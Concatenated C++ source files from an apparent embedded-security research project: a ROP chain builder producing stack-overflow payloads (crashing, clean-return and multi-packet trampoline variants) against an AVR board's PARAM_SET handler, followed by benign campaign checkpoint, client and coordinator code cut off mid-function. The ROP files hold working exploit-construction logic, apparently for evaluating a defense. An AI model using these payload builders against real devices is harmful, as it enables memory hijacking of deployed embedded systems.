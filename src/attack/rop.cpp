#include "attack/rop.hpp"

#include "support/error.hpp"

namespace mavr::attack {

namespace {

constexpr std::uint8_t kJunk = 0xA5;

/// Big-endian 3-byte word address, the stack layout of a return target.
void append_gadget_addr(support::Bytes& out, std::uint32_t byte_addr) {
  MAVR_REQUIRE(byte_addr % 2 == 0, "gadget address must be even");
  const std::uint32_t word = byte_addr / 2;
  out.push_back(static_cast<std::uint8_t>((word >> 16) & 0xFF));
  out.push_back(static_cast<std::uint8_t>((word >> 8) & 0xFF));
  out.push_back(static_cast<std::uint8_t>(word & 0xFF));
}

}  // namespace

std::vector<Write3> writes_for(std::uint16_t addr,
                               const support::Bytes& bytes) {
  MAVR_REQUIRE(bytes.size() >= 3, "need at least 3 bytes for a write chain");
  std::vector<Write3> out;
  std::size_t pos = 0;
  while (pos < bytes.size()) {
    if (pos + 3 > bytes.size()) pos = bytes.size() - 3;  // overlap the tail
    Write3 w;
    w.addr = static_cast<std::uint16_t>(addr + pos);
    w.bytes = {bytes[pos], bytes[pos + 1], bytes[pos + 2]};
    out.push_back(w);
    pos += 3;
  }
  return out;
}

RopChainBuilder::RopChainBuilder(StkMoveGadget stk, WriteMemGadget wm,
                                 VictimFrame frame)
    : stk_(std::move(stk)), wm_(std::move(wm)), frame_(frame) {
  MAVR_REQUIRE(!stk_.pops.empty(), "stk_move gadget has no pops");
  MAVR_REQUIRE(wm_.pops.size() >= 5, "write_mem gadget pop run too short");
}

void RopChainBuilder::append_round(support::Bytes& out, std::uint16_t y,
                                   std::uint8_t v0, std::uint8_t v1,
                                   std::uint8_t v2,
                                   std::uint32_t next_byte_addr) const {
  // Lay the chunk out so each pop consumes the right byte: pops run in
  // wm_.pops order, one byte per pop, ascending addresses.
  for (std::uint8_t reg : wm_.pops) {
    switch (reg) {
      case 29: out.push_back(static_cast<std::uint8_t>(y >> 8)); break;
      case 28: out.push_back(static_cast<std::uint8_t>(y & 0xFF)); break;
      case 5: out.push_back(v0); break;
      case 6: out.push_back(v1); break;
      case 7: out.push_back(v2); break;
      default: out.push_back(kJunk); break;
    }
  }
  append_gadget_addr(out, next_byte_addr);
}

std::vector<Write3> RopChainBuilder::repair_writes() const {
  // The final stk_move sets SP = P - S (S = |stk.pops|); its pops then
  // consume P-S+1..P and its ret consumes the (repaired) return address at
  // P+1..P+3, leaving SP at P+3 — exactly the state of a normal return.
  const std::size_t s = stk_.pops.size();
  support::Bytes region;
  for (std::size_t j = 0; j < s; ++j) {
    region.push_back(frame_.regs_at_entry[stk_.pops[j]]);
  }
  region.push_back(frame_.ret_bytes[0]);
  region.push_back(frame_.ret_bytes[1]);
  region.push_back(frame_.ret_bytes[2]);
  return writes_for(static_cast<std::uint16_t>(frame_.p - s + 1), region);
}

support::Bytes RopChainBuilder::chain_bytes(
    const std::vector<Write3>& writes) const {
  support::Bytes chain;
  // Consumed by the initial stk_move's own pops after the pivot.
  chain.insert(chain.end(), stk_.pops.size(), kJunk);
  append_gadget_addr(chain, wm_.pop_entry_byte_addr);

  std::vector<Write3> all = writes;
  for (const Write3& r : repair_writes()) all.push_back(r);

  for (const Write3& w : all) {
    // Y = target - 1 because the gadget stores to Y+1..Y+3.
    append_round(chain, static_cast<std::uint16_t>(w.addr - 1), w.bytes[0],
                 w.bytes[1], w.bytes[2], wm_.store_entry_byte_addr);
  }
  // Post-final-store chunk: load Y with the pivot-back target and return
  // into the stk_move gadget.
  const std::uint16_t y_pivot =
      static_cast<std::uint16_t>(frame_.p - stk_.pops.size());
  append_round(chain, y_pivot, kJunk, kJunk, kJunk, stk_.entry_byte_addr);
  return chain;
}

support::Bytes RopChainBuilder::overflow_payload(const support::Bytes& chain,
                                                 std::uint16_t pivot_y) const {
  MAVR_REQUIRE(chain.size() <= frame_.frame_bytes,
               "chain does not fit the vulnerable buffer");
  support::Bytes payload = chain;
  payload.resize(frame_.frame_bytes, kJunk);
  // Saved-register slots: the handler epilogue pops r29 from P-1 and r28
  // from P; the stk_move gadget then writes SPH/SPL from them.
  payload.push_back(static_cast<std::uint8_t>(pivot_y >> 8));    // -> r29
  payload.push_back(static_cast<std::uint8_t>(pivot_y & 0xFF));  // -> r28
  append_gadget_addr(payload, stk_.entry_byte_addr);             // -> ret
  return payload;
}

std::size_t RopChainBuilder::v2_write_capacity() const {
  const std::size_t s = stk_.pops.size();
  const std::size_t round = wm_.pops.size() + 3;
  const std::size_t fixed = s + 3 + round;  // initial junk+entry, pivot round
  if (frame_.frame_bytes < fixed) return 0;
  const std::size_t rounds = (frame_.frame_bytes - fixed) / round;
  const std::size_t repairs = repair_writes().size();
  return rounds > repairs ? rounds - repairs : 0;
}

support::Bytes RopChainBuilder::v1_payload(const Write3& write) const {
  // Traditional ROP: no pivot, no repair. The handler's own ret jumps into
  // the write_mem pop run, which consumes the caller's live stack; after
  // the store the next ret lands in garbage and the board crashes.
  support::Bytes payload(frame_.frame_bytes, kJunk);
  payload.push_back(kJunk);  // saved r29 slot
  payload.push_back(kJunk);  // saved r28 slot
  append_gadget_addr(payload, wm_.pop_entry_byte_addr);
  // The chunk below lands on the *caller's* live stack (no pivot): check
  // the headroom between the smashed frame and the top of SRAM.
  const std::size_t headroom = frame_.ram_end - (frame_.p + 3);
  MAVR_REQUIRE(headroom >= wm_.pops.size() + 3,
               "V1 chain does not fit above the smashed frame");
  append_round(payload, static_cast<std::uint16_t>(write.addr - 1),
               write.bytes[0], write.bytes[1], write.bytes[2],
               wm_.store_entry_byte_addr);
  // Garbage return targets for the post-store pop run to chew on, clamped
  // to SRAM.
  const std::size_t junk =
      std::min<std::size_t>(24, headroom - wm_.pops.size() - 3);
  payload.insert(payload.end(), junk, 0xD9);
  return payload;
}

support::Bytes RopChainBuilder::v2_payload(
    const std::vector<Write3>& writes) const {
  const support::Bytes chain = chain_bytes(writes);
  return overflow_payload(
      chain, static_cast<std::uint16_t>(frame_.buffer_addr - 1));
}

support::Bytes RopChainBuilder::staged_chain(
    std::uint16_t /*staging_addr*/, const std::vector<Write3>& writes) const {
  // The chain is position independent: it is pure data consumed through SP.
  return chain_bytes(writes);
}

std::vector<support::Bytes> RopChainBuilder::v3_payloads(
    std::uint16_t staging_addr, const std::vector<Write3>& writes) const {
  std::vector<support::Bytes> packets;
  const support::Bytes chain = chain_bytes(writes);

  // Phase A: stage the big chain 3 bytes per clean-return packet.
  const std::size_t per_packet = v2_write_capacity();
  MAVR_REQUIRE(per_packet >= 1, "buffer too small for trampoline staging");
  std::vector<Write3> batch;
  for (const Write3& w : writes_for(staging_addr, chain)) {
    batch.push_back(w);
    if (batch.size() == per_packet) {
      packets.push_back(v2_payload(batch));
      batch.clear();
    }
  }
  if (!batch.empty()) packets.push_back(v2_payload(batch));

  // Phase B: pivot straight into the staged chain; its own tail repairs
  // the frame and returns cleanly.
  support::Bytes trigger(frame_.frame_bytes, kJunk);
  const std::uint16_t pivot_y = static_cast<std::uint16_t>(staging_addr - 1);
  trigger.push_back(static_cast<std::uint8_t>(pivot_y >> 8));
  trigger.push_back(static_cast<std::uint8_t>(pivot_y & 0xFF));
  append_gadget_addr(trigger, stk_.entry_byte_addr);
  packets.push_back(std::move(trigger));
  return packets;
}

}  // namespace mavr::attack
