// ROP payload construction for the three attacks of paper §IV.
//
// Terminology used throughout (matching the paper's Fig. 6 walkthrough):
//   P           — SP at h_param_set entry; the 3-byte return address the
//                 CALL pushed sits at P+1..P+3 (big-endian), the saved
//                 r29/r28 at P-1/P.
//   buffer      — the vulnerable stack buffer, buffer[0] at Y+1 = P -
//                 frame - 1.
//   chain       — gadget frames executed after SP is pivoted into the
//                 buffer by the stk_move gadget.
//
// The chain grammar (derived from the found gadgets' pop lists):
//   [junk x |stk.pops|] [wm.pop_entry]
//   { [wm chunk: Y_i, values_i] [wm.store_entry] } x N
//   [wm chunk: Y_pivot] [stk.entry]
// where each wm chunk is |wm.pops| bytes whose positions map to the pop
// order, and the final stk_move lands SP back at P+3 with r28/r29 and the
// return address repaired — the paper's "clean return".
#pragma once

#include <array>
#include <cstdint>
#include <vector>

#include "attack/gadgets.hpp"
#include "support/bytes.hpp"

namespace mavr::attack {

/// Everything the attacker learns about the vulnerable frame by analyzing
/// and replaying the *stock* binary (threat model §IV-A: binary + symbols
/// are public; the randomized binary is not).
struct VictimFrame {
  std::uint16_t p = 0;            ///< SP at handler entry
  std::uint16_t frame_bytes = 0;  ///< frame size parsed from the prologue
  std::uint16_t buffer_addr = 0;  ///< = p - frame_bytes - 1
  std::uint16_t ram_end = 0x21FF; ///< top of SRAM (caller-stack headroom)
  std::array<std::uint8_t, 32> regs_at_entry{};  ///< for faithful repair
  std::array<std::uint8_t, 3> ret_bytes{};       ///< big-endian at P+1..P+3
};

/// One 3-byte memory write performed by a write_mem gadget round.
struct Write3 {
  std::uint16_t addr = 0;
  std::array<std::uint8_t, 3> bytes{};
};

/// Splits an arbitrary byte string into (possibly overlapping) Write3 ops.
std::vector<Write3> writes_for(std::uint16_t addr,
                               const support::Bytes& bytes);

/// Builds PARAM_SET payloads implementing ROP V1/V2/V3.
class RopChainBuilder {
 public:
  RopChainBuilder(StkMoveGadget stk, WriteMemGadget wm, VictimFrame frame);

  /// V1 — traditional ROP (paper §IV-C): performs `write` then runs off
  /// into the smashed caller stack. The board ends up executing garbage.
  support::Bytes v1_payload(const Write3& write) const;

  /// V2 — stealthy ROP with clean return (paper §IV-D): performs `writes`,
  /// repairs r28/r29/return address, resumes the victim. Throws when the
  /// chain does not fit the buffer (use V3 for big payloads).
  support::Bytes v2_payload(const std::vector<Write3>& writes) const;

  /// Maximum number of attacker writes a single V2 packet can carry.
  std::size_t v2_write_capacity() const;

  /// V3 — trampoline attack (paper §IV-E): returns the whole packet
  /// sequence. Leading packets are V2 chains that stage a large chain at
  /// `staging_addr` 3 bytes at a time; the final packet pivots SP into the
  /// staged chain, which performs all `writes`, repairs the frame and
  /// returns cleanly. Payload size is bounded only by free SRAM.
  std::vector<support::Bytes> v3_payloads(
      std::uint16_t staging_addr, const std::vector<Write3>& writes) const;

  /// The chain bytes V3 stages at `staging_addr` (exposed for tests).
  support::Bytes staged_chain(std::uint16_t staging_addr,
                              const std::vector<Write3>& writes) const;

  const VictimFrame& frame() const { return frame_; }

 private:
  /// One wm chunk: pop values + 3-byte next-gadget address.
  void append_round(support::Bytes& out, std::uint16_t y, std::uint8_t v0,
                    std::uint8_t v1, std::uint8_t v2,
                    std::uint32_t next_byte_addr) const;
  /// The repair writes restoring pop values at P-S+1..P and the return
  /// address at P+1..P+3.
  std::vector<Write3> repair_writes() const;
  /// Chain content implementing writes + repair + pivot-back, laid out to
  /// run at `chain_addr` (buffer for V2, staging area for V3).
  support::Bytes chain_bytes(const std::vector<Write3>& writes) const;
  /// Wraps chain content into an overflow payload (fills the buffer,
  /// overwrites saved Y and the return address with the initial pivot).
  support::Bytes overflow_payload(const support::Bytes& chain,
                                  std::uint16_t pivot_y) const;

  StkMoveGadget stk_;
  WriteMemGadget wm_;
  VictimFrame frame_;
};

}  // namespace mavr::attack
