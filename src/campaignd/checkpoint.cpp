#include "campaignd/checkpoint.hpp"

#include <algorithm>
#include <memory>
#include <set>

#include <unistd.h>

#include "campaign/wire.hpp"
#include "campaignd/protocol.hpp"
#include "support/bytes.hpp"
#include "support/crc.hpp"
#include "support/error.hpp"

namespace mavr::campaignd {

namespace {

namespace wire = campaign::wire;

struct FileCloser {
  void operator()(std::FILE* f) const { std::fclose(f); }
};
using FileHandle = std::unique_ptr<std::FILE, FileCloser>;

}  // namespace

CheckpointStore::~CheckpointStore() {
  if (file_ != nullptr) {
    std::fflush(file_);
    if (dirty_) ::fsync(::fileno(file_));
    std::fclose(file_);
  }
}

void CheckpointStore::append(std::uint64_t fingerprint,
                             const campaign::ChunkResult& result) {
  if (!enabled()) return;
  support::Bytes payload;
  support::ByteWriter pw(payload);
  pw.u8(wire::kWireVersion);
  wire::put_u64(pw, fingerprint);
  wire::encode_chunk_result(pw, result);

  support::Bytes record;
  support::ByteWriter rw(record);
  rw.u32_le(static_cast<std::uint32_t>(payload.size()));
  rw.u32_le(support::crc32_ieee(payload));
  rw.bytes(payload);

  const std::lock_guard<std::mutex> lock(mu_);
  if (file_ == nullptr) {
    file_ = std::fopen(path_.c_str(), "ab");
    MAVR_CHECK(file_ != nullptr, "cannot open checkpoint store for append");
  }
  // One fwrite per record: an OS-level kill between appends leaves whole
  // records; a kill mid-write leaves a torn tail that load() rejects by
  // CRC. fflush pushes the record to the kernel, so only a host power cut
  // (not a process kill) can lose it before the next sync().
  MAVR_CHECK(std::fwrite(record.data(), 1, record.size(), file_) ==
                 record.size(),
             "checkpoint append failed (disk full?)");
  MAVR_CHECK(std::fflush(file_) == 0, "checkpoint flush failed");
  dirty_ = true;
}

void CheckpointStore::sync() {
  const std::lock_guard<std::mutex> lock(mu_);
  if (file_ == nullptr || !dirty_) return;
  MAVR_CHECK(std::fflush(file_) == 0, "checkpoint flush failed");
  MAVR_CHECK(::fsync(::fileno(file_)) == 0, "checkpoint fsync failed");
  dirty_ = false;
}

std::vector<campaign::ChunkResult> CheckpointStore::load(
    std::uint64_t fingerprint, std::uint64_t n_chunks) const {
  std::vector<campaign::ChunkResult> out;
  if (!enabled()) return out;
  const FileHandle f(std::fopen(path_.c_str(), "rb"));
  if (!f) return out;  // no store yet: nothing to resume

  support::Bytes data;
  std::uint8_t buf[4096];
  std::size_t n = 0;
  while ((n = std::fread(buf, 1, sizeof buf, f.get())) > 0) {
    data.insert(data.end(), buf, buf + n);
  }

  std::set<std::uint64_t> seen;
  std::size_t pos = 0;
  while (data.size() - pos >= 8) {
    support::ByteReader hr(
        std::span<const std::uint8_t>(data.data() + pos, 8));
    const std::uint32_t length = hr.u32_le();
    const std::uint32_t crc = hr.u32_le();
    if (length < 9 || length > kMaxFrameBytes ||
        data.size() - pos - 8 < length) {
      break;  // torn tail (coordinator killed mid-append)
    }
    const std::span<const std::uint8_t> payload(data.data() + pos + 8,
                                                length);
    if (support::crc32_ieee(payload) != crc) break;
    pos += 8 + length;

    try {
      support::ByteReader r(payload);
      if (r.u8() != wire::kWireVersion) continue;  // stale-format record
      if (wire::get_u64(r) != fingerprint) continue;  // other campaign
      campaign::ChunkResult result = wire::decode_chunk_result(r);
      if (!r.done() || result.index >= n_chunks) continue;
      if (!seen.insert(result.index).second) continue;
      out.push_back(std::move(result));
    } catch (const support::Error&) {
      continue;  // malformed record body: skip, keep scanning
    }
  }
  std::sort(out.begin(), out.end(),
            [](const campaign::ChunkResult& a, const campaign::ChunkResult& b) {
              return a.index < b.index;
            });
  return out;
}

}  // namespace mavr::campaignd
