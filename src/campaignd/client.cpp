#include "campaignd/client.hpp"

#include <chrono>
#include <thread>

#include "support/backoff.hpp"
#include "support/error.hpp"
#include "support/socket.hpp"

namespace mavr::campaignd {

namespace {

/// One handshake + request/reply exchange on a fresh connection. Returns
/// false (with `*error` set) on any failure; `*retryable` distinguishes
/// transient transport loss (worth backing off and retrying) from a
/// permanent rejection (wrong token/version — retrying cannot help).
bool request(const std::string& endpoint, const ClientOptions& options,
             MsgType type, const support::Bytes& body, Message* reply,
             std::string* error, bool* retryable) {
  *retryable = false;
  const auto ep = support::parse_endpoint(endpoint);
  if (!ep) {
    *error = "malformed endpoint: " + endpoint;
    return false;
  }
  support::Socket sock = support::connect_endpoint(
      *ep, options.connect_attempts, options.connect_backoff_ms);
  if (!sock.valid()) {
    *error = "cannot connect to coordinator at " + endpoint;
    *retryable = true;
    return false;
  }
  if (options.fault_plane != nullptr) options.fault_plane->arm(sock);
  std::string reject_reason;
  switch (client_handshake(sock, options.auth_token, options.reply_timeout_ms,
                           &reject_reason)) {
    case HandshakeResult::kOk:
      break;
    case HandshakeResult::kRejected:
      *error = "handshake rejected: " + reject_reason;
      return false;  // permanent: same token fails the same way next time
    case HandshakeResult::kTransport:
      *error = "coordinator closed the connection during handshake";
      *retryable = true;
      return false;
  }
  if (!send_message(sock, type, body)) {
    *error = "send to coordinator failed";
    *retryable = true;
    return false;
  }
  if (recv_message(sock, reply, options.reply_timeout_ms) !=
      support::IoStatus::kOk) {
    *error = "coordinator closed the connection or timed out";
    *retryable = true;
    return false;
  }
  return true;
}

/// request() wrapped in the retry ladder: up to max_retries extra
/// attempts across *transport* failures, full-jitter backoff between.
bool request_with_retries(const std::string& endpoint,
                          const ClientOptions& options, MsgType type,
                          const support::Bytes& body, Message* reply,
                          std::string* error) {
  support::Backoff backoff(options.retry_backoff_ms,
                           options.retry_backoff_max_ms, options.retry_seed);
  for (int attempt = 0;; ++attempt) {
    bool retryable = false;
    if (request(endpoint, options, type, body, reply, error, &retryable)) {
      return true;
    }
    if (!retryable || attempt >= options.max_retries) return false;
    std::this_thread::sleep_for(
        std::chrono::milliseconds(backoff.next_delay_ms()));
  }
}

ClientOptions token_options(const std::string& auth_token) {
  ClientOptions options;
  options.auth_token = auth_token;
  return options;
}

}  // namespace

SubmitOutcome submit_campaign(const std::string& endpoint,
                              const campaign::CampaignConfig& config,
                              const ClientOptions& options) {
  SubmitOutcome out;
  Message reply;
  // Retrying a submit whose kSubmitAck was lost is safe: the coordinator
  // deduplicates live campaigns by canonical config, so the retry returns
  // the id the first attempt admitted.
  if (!request_with_retries(endpoint, options, MsgType::kSubmit,
                            encode_submit(config), &reply, &out.error)) {
    return out;
  }
  try {
    if (reply.type == MsgType::kSubmitAck) {
      out.campaign_id = decode_u64_body(reply.body);
      out.ok = true;
    } else if (reply.type == MsgType::kReject) {
      out.error = "rejected: " + decode_string_body(reply.body);
    } else {
      out.error = "unexpected reply to submit";
    }
  } catch (const support::Error& e) {
    out.error = std::string("malformed submit reply: ") + e.what();
  }
  return out;
}

PollOutcome poll_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id,
                          const ClientOptions& options) {
  PollOutcome out;
  Message reply;
  if (!request_with_retries(endpoint, options, MsgType::kPoll,
                            encode_u64_body(campaign_id), &reply,
                            &out.error)) {
    return out;
  }
  try {
    if (reply.type == MsgType::kStatus) {
      out.status = decode_status(reply.body);
      out.ok = true;
    } else if (reply.type == MsgType::kReject) {
      out.error = "rejected: " + decode_string_body(reply.body);
    } else {
      out.error = "unexpected reply to poll";
    }
  } catch (const support::Error& e) {
    out.error = std::string("malformed poll reply: ") + e.what();
  }
  return out;
}

PollOutcome wait_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id,
                          const ClientOptions& options, int interval_ms,
                          int timeout_ms) {
  // Each poll already carries the per-operation retry ladder; on top the
  // wait loop tolerates `max_retries` *consecutive* failed polls before
  // abandoning the campaign, resetting on every success — a coordinator
  // restart mid-campaign costs polls, never the wait. Nothing else needs
  // resuming: the next successful poll returns the full incremental
  // aggregate (chunks merged so far), because status is coordinator-side
  // state, not a client-side stream.
  int waited_ms = 0;
  int consecutive_failures = 0;
  for (;;) {
    PollOutcome out = poll_campaign(endpoint, campaign_id, options);
    if (out.ok) {
      consecutive_failures = 0;
      if (out.status.state == CampaignState::kDone) return out;
    } else {
      ++consecutive_failures;
      if (consecutive_failures > options.max_retries) return out;
    }
    if (timeout_ms >= 0 && waited_ms >= timeout_ms) {
      out.ok = false;
      out.error = "timed out waiting for campaign to finish";
      return out;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(interval_ms));
    waited_ms += interval_ms;
  }
}

SubmitOutcome submit_campaign(const std::string& endpoint,
                              const campaign::CampaignConfig& config,
                              const std::string& auth_token) {
  return submit_campaign(endpoint, config, token_options(auth_token));
}

PollOutcome poll_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id,
                          const std::string& auth_token) {
  return poll_campaign(endpoint, campaign_id, token_options(auth_token));
}

PollOutcome wait_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id, int interval_ms,
                          int timeout_ms, const std::string& auth_token) {
  return wait_campaign(endpoint, campaign_id, token_options(auth_token),
                       interval_ms, timeout_ms);
}

}  // namespace mavr::campaignd
