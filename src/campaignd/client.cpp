#include "campaignd/client.hpp"

#include <chrono>
#include <thread>

#include "support/error.hpp"
#include "support/socket.hpp"

namespace mavr::campaignd {

namespace {

constexpr int kReplyTimeoutMs = 10'000;

/// One handshake + request/reply exchange on a fresh connection. Returns
/// false (with `*error` set) on any transport or authentication failure.
bool request(const std::string& endpoint, const std::string& auth_token,
             MsgType type, const support::Bytes& body, Message* reply,
             std::string* error) {
  const auto ep = support::parse_endpoint(endpoint);
  if (!ep) {
    *error = "malformed endpoint: " + endpoint;
    return false;
  }
  support::Socket sock = support::connect_endpoint(*ep, /*attempts=*/5,
                                                   /*backoff_ms=*/20);
  if (!sock.valid()) {
    *error = "cannot connect to coordinator at " + endpoint;
    return false;
  }
  std::string reject_reason;
  switch (client_handshake(sock, auth_token, kReplyTimeoutMs,
                           &reject_reason)) {
    case HandshakeResult::kOk:
      break;
    case HandshakeResult::kRejected:
      *error = "handshake rejected: " + reject_reason;
      return false;
    case HandshakeResult::kTransport:
      *error = "coordinator closed the connection during handshake";
      return false;
  }
  if (!send_message(sock, type, body)) {
    *error = "send to coordinator failed";
    return false;
  }
  if (recv_message(sock, reply, kReplyTimeoutMs) != support::IoStatus::kOk) {
    *error = "coordinator closed the connection or timed out";
    return false;
  }
  return true;
}

}  // namespace

SubmitOutcome submit_campaign(const std::string& endpoint,
                              const campaign::CampaignConfig& config,
                              const std::string& auth_token) {
  SubmitOutcome out;
  Message reply;
  if (!request(endpoint, auth_token, MsgType::kSubmit, encode_submit(config),
               &reply, &out.error)) {
    return out;
  }
  try {
    if (reply.type == MsgType::kSubmitAck) {
      out.campaign_id = decode_u64_body(reply.body);
      out.ok = true;
    } else if (reply.type == MsgType::kReject) {
      out.error = "rejected: " + decode_string_body(reply.body);
    } else {
      out.error = "unexpected reply to submit";
    }
  } catch (const support::Error& e) {
    out.error = std::string("malformed submit reply: ") + e.what();
  }
  return out;
}

PollOutcome poll_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id,
                          const std::string& auth_token) {
  PollOutcome out;
  Message reply;
  if (!request(endpoint, auth_token, MsgType::kPoll,
               encode_u64_body(campaign_id), &reply, &out.error)) {
    return out;
  }
  try {
    if (reply.type == MsgType::kStatus) {
      out.status = decode_status(reply.body);
      out.ok = true;
    } else if (reply.type == MsgType::kReject) {
      out.error = "rejected: " + decode_string_body(reply.body);
    } else {
      out.error = "unexpected reply to poll";
    }
  } catch (const support::Error& e) {
    out.error = std::string("malformed poll reply: ") + e.what();
  }
  return out;
}

PollOutcome wait_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id, int interval_ms,
                          int timeout_ms, const std::string& auth_token) {
  int waited_ms = 0;
  for (;;) {
    PollOutcome out = poll_campaign(endpoint, campaign_id, auth_token);
    if (!out.ok || out.status.state == CampaignState::kDone) return out;
    if (timeout_ms >= 0 && waited_ms >= timeout_ms) {
      out.ok = false;
      out.error = "timed out waiting for campaign to finish";
      return out;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(interval_ms));
    waited_ms += interval_ms;
  }
}

}  // namespace mavr::campaignd
