#include "campaignd/coordinator.hpp"

#include <algorithm>
#include <cmath>

#include <sys/socket.h>

#include "campaign/wire.hpp"
#include "support/error.hpp"

namespace mavr::campaignd {

namespace {

namespace wire = campaign::wire;

/// recv slice inside connection handlers: short enough that stop() and
/// the assignment timeout are responsive, long enough to stay off the CPU.
constexpr int kServeSliceMs = 100;

/// Total budget for a peer to complete the handshake. A TCP connection
/// that never speaks (port scanner, half-open probe) is dropped here
/// instead of pinning a handler thread on the recv loop.
constexpr int kHandshakeTimeoutMs = 10'000;

/// Admission cap on one campaign. Keeps a hostile or typo'd submit from
/// making the coordinator reserve gigabytes of per-chunk bookkeeping.
constexpr std::uint64_t kMaxTrialsPerCampaign = 100'000'000;

/// EWMA smoothing for per-connection chunk completion rate: ~70% of the
/// weight inside the last three samples — quick to notice a machine
/// slowing down, tolerant of one odd chunk.
constexpr double kRateAlpha = 0.3;

}  // namespace

std::uint32_t scaled_assign_chunks(std::uint32_t grain, double rate,
                                   double max_rate) {
  if (grain <= 1 || rate <= 0.0 || max_rate <= 0.0) return grain;
  if (rate >= max_rate) return grain;
  const double share = std::ceil(static_cast<double>(grain) *
                                 (rate / max_rate));
  return std::clamp<std::uint32_t>(static_cast<std::uint32_t>(share), 1,
                                   grain);
}

Coordinator::Coordinator(CoordinatorConfig config)
    : config_(std::move(config)),
      store_(config_.checkpoint_path),
      net_plane_(config_.net_faults, support::Rng(config_.net_fault_seed)) {
  MAVR_REQUIRE(!config_.listen_endpoint.empty(),
               "coordinator needs a listen endpoint");
  MAVR_REQUIRE(config_.assign_chunks >= 1, "assign_chunks must be >= 1");
  MAVR_REQUIRE(config_.max_queue >= 1, "max_queue must be >= 1");
  MAVR_REQUIRE(config_.speculation_max_copies >= 1,
               "speculation_max_copies must be >= 1");
}

Coordinator::~Coordinator() { stop(); }

void Coordinator::start() {
  MAVR_REQUIRE(listener_ == nullptr && !stopping_.load(),
               "coordinator already started");
  const auto ep = support::parse_endpoint(config_.listen_endpoint);
  if (!ep) {
    throw support::Error("malformed listen endpoint: " +
                         config_.listen_endpoint);
  }
  listener_ = support::make_listener(*ep);
  if (net_plane_.armed()) {
    // Chaos plane: every accepted connection's sends/recvs on *this* side
    // go through a per-connection fault stream. The listener decorator is
    // the single interposition point — handlers stay fault-oblivious.
    listener_ = std::make_unique<support::FaultyListener>(std::move(listener_),
                                                          &net_plane_);
  }
  bound_endpoint_ = support::endpoint_name(listener_->endpoint());
  accept_thread_ = std::thread(&Coordinator::accept_loop, this);
}

void Coordinator::stop() {
  stopping_.store(true);
  if (accept_thread_.joinable()) accept_thread_.join();
  {
    // Kick every handler out of its blocking recv. The handler unregisters
    // its fd under conns_mu_ *before* closing it, so these fds are live.
    const std::lock_guard<std::mutex> lock(conns_mu_);
    for (int fd : live_fds_) ::shutdown(fd, SHUT_RDWR);
  }
  std::unordered_map<std::uint64_t, std::thread> remaining;
  {
    const std::lock_guard<std::mutex> lock(conns_mu_);
    remaining.swap(handlers_);
    finished_handlers_.clear();
  }
  for (auto& [id, t] : remaining) {
    if (t.joinable()) t.join();
  }
  if (listener_) {
    listener_->close();
    listener_.reset();  // unlinks an AF_UNIX socket path
  }
  store_.sync();  // whatever the last drain/poll didn't cover
}

void Coordinator::begin_drain() { draining_.store(true); }

bool Coordinator::drain(int timeout_ms) {
  begin_drain();
  const auto deadline = std::chrono::steady_clock::now() +
                        std::chrono::milliseconds(timeout_ms);
  // Every in-flight chunk resolves on its own: the holder either delivers
  // the result (accepted and checkpointed even while draining) or its
  // connection dies and reclaim() re-pends the chunk. Polling is enough.
  while (queue_depth().inflight_chunks > 0) {
    if (std::chrono::steady_clock::now() >= deadline) {
      store_.sync();
      return false;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  store_.sync();
  return true;
}

CoordinatorCounters Coordinator::counters() {
  const std::lock_guard<std::mutex> lock(mu_);
  return counters_;
}

QueueDepth Coordinator::queue_depth() {
  QueueDepth depth;
  const std::lock_guard<std::mutex> lock(mu_);
  for (const std::unique_ptr<Campaign>& c : campaigns_) {
    if (c->state == CampaignState::kDone) continue;
    ++depth.incomplete_campaigns;
    depth.pending_chunks += c->pending.size();
    depth.inflight_chunks += c->inflight.size();
  }
  return depth;
}

support::NetFaultStats Coordinator::net_fault_stats() const {
  return net_plane_.stats();
}

void Coordinator::accept_loop() {
  while (!stopping_.load()) {
    support::Socket sock = listener_->accept(200);
    reap_finished();
    if (!sock.valid()) continue;
    const std::lock_guard<std::mutex> lock(conns_mu_);
    if (stopping_.load()) break;  // stop() is about to sweep live fds
    const std::uint64_t id = next_handler_id_++;
    handlers_.emplace(id,
                      std::thread(&Coordinator::serve, this, std::move(sock),
                                  id));
  }
}

void Coordinator::reap_finished() {
  // Joining under conns_mu_ would let a slow exit path block accepts, so
  // the threads are moved out first. A finished id's thread has already
  // run its last statement; join() returns as soon as it unwinds.
  std::vector<std::thread> done;
  {
    const std::lock_guard<std::mutex> lock(conns_mu_);
    for (std::uint64_t id : finished_handlers_) {
      auto it = handlers_.find(id);
      if (it == handlers_.end()) continue;  // stop() already swept it
      done.push_back(std::move(it->second));
      handlers_.erase(it);
    }
    finished_handlers_.clear();
  }
  for (std::thread& t : done) {
    if (t.joinable()) t.join();
  }
}

std::size_t Coordinator::handler_count() {
  reap_finished();
  const std::lock_guard<std::mutex> lock(conns_mu_);
  return handlers_.size();
}

bool Coordinator::serve_handshake(support::Socket& sock) {
  Message msg;
  // Sliced recv so stop() stays responsive during a peer's think time.
  const auto deadline = std::chrono::steady_clock::now() +
                        std::chrono::milliseconds(kHandshakeTimeoutMs);
  const auto recv_step = [&](Message* out) -> bool {
    while (!stopping_.load() &&
           std::chrono::steady_clock::now() < deadline) {
      const support::IoStatus st = recv_message(sock, out, kServeSliceMs);
      if (st == support::IoStatus::kOk) return true;
      if (st == support::IoStatus::kClosed) return false;
    }
    return false;
  };

  if (!recv_step(&msg) || msg.type != MsgType::kHello) return false;
  HelloBody hello;
  try {
    hello = decode_hello(msg.body);
  } catch (const support::Error&) {
    return false;
  }
  if (hello.protocol_version != kProtocolVersion) {
    send_message(sock, MsgType::kReject,
                 encode_string_body("protocol version mismatch"));
    return false;
  }
  const std::uint64_t server_nonce = fresh_nonce();
  if (!send_message(sock, MsgType::kChallenge,
                    encode_u64_body(server_nonce))) {
    return false;
  }
  if (!recv_step(&msg) || msg.type != MsgType::kAuth) return false;
  support::Sha256Digest mac;
  try {
    mac = decode_mac_body(msg.body);
  } catch (const support::Error&) {
    return false;
  }
  const support::Sha256Digest expected =
      auth_mac_peer(config_.auth_token, server_nonce, hello.peer_nonce);
  if (!support::digest_equal(mac, expected)) {
